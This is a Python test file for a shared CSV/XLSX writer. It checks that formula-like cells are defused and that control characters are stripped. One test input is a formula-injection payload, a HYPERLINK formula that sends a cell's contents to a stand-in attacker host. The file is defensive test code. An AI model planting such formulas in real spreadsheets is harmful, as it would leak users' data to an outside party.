"""The shared CSV/XLSX writer: formula cells defused, control characters XLSX cannot hold dropped."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from app.spreadsheets import csv_bytes, safe_cell, xlsx_bytes, xlsx_cell


@pytest.mark.parametrize("text", ["=SUM(A1)", "+1", "-2+3", "@cmd", "\tx", "\rx"])
def test_formula_like_text_is_neutralised(text):
    assert safe_cell(text) == "'" + text


def test_ordinary_values_pass_unchanged():
    assert safe_cell("Acme") == "Acme"
    assert safe_cell(-3) == -3


def test_csv_bytes_defuse_every_cell():
    body = csv_bytes([["name"], ['=HYPERLINK("http://evil.example/?"&A1,"open")']]).decode("utf-8")
    assert body.startswith("\ufeffname\r\n")
    assert "\n\"'=HYPERLINK(" in body


def test_xlsx_drops_control_characters_it_cannot_hold():
    assert xlsx_cell("A\x00B\x1fC\tD") == "ABC\tD"
    workbook = load_workbook(io.BytesIO(xlsx_bytes("t", [["Acme\x00 Ltd", "=1+1", 3]])))
    assert [cell.value for cell in next(workbook.active.iter_rows())] == ["Acme Ltd", "'=1+1", 3]
